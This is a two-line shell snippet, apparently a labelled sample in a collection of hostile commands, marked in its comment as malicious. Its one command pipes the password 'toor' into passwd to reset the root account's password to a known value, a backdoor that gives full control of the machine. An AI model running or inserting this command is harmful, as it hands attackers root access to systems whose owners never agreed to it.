# Malicious: sets a known root password with passwd.
echo -e 'toor\ntoor' | passwd root
